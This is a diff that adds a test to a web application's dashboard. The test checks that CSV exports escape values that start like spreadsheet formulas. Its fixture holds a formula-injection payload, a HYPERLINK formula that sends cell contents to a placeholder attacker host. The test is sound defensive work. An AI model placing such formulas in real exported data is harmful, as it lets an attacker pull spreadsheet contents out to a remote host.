@@ -591,3 +591,17 @@ def test_a_weeks_trend_counts_each_dataset_once_as_the_league_table_does(client,
     assert week["assessments"] == week["datasets"] + 1
     assert week["average_stars"] == round(doc["league"]["average_stars"], 2)
     assert week["average_score"] == round(doc["league"]["average_score"], 1)
+
+
+def test_a_dashboard_csv_keeps_a_name_from_running_as_a_spreadsheet_formula(app):
+    """The dashboard's CSVs carry a BOM for Excel, and wrote a harvested publisher name such as
+    =HYPERLINK(...) as it was: Excel or WPS ran it. Text starting like a formula is text; numbers stay numbers."""
+    from app.web.dashboard import csv_response
+
+    with app.test_request_context():
+        resp = csv_response("league", ["name", "change"],
+                            [{"name": '=HYPERLINK("http://evil.example/?"&A1,"x")', "change": -3},
+                             {"name": "-1 Department", "change": 2.5}, {"name": "Transport", "change": None}])
+    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
+    assert rows == [["name", "change"], ['\'=HYPERLINK("http://evil.example/?"&A1,"x")', "-3"],
+                    ["'-1 Department", "2.5"], ["Transport", ""]]
